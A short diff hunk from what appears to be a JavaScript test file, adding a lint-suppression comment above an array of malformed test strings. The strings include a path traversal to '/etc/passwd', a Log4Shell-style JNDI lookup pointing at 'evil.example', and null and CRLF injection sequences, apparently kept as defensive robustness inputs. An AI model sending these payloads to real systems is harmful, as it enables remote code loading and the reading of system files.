@@ -22,6 +22,7 @@ const texts = [
   '\uD800',
   '\u0000',
   '../../etc/passwd',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant as it stands
   '${jndi:ldap://evil.example}',
   '%00%0d%0a',
   '9'.repeat(400),
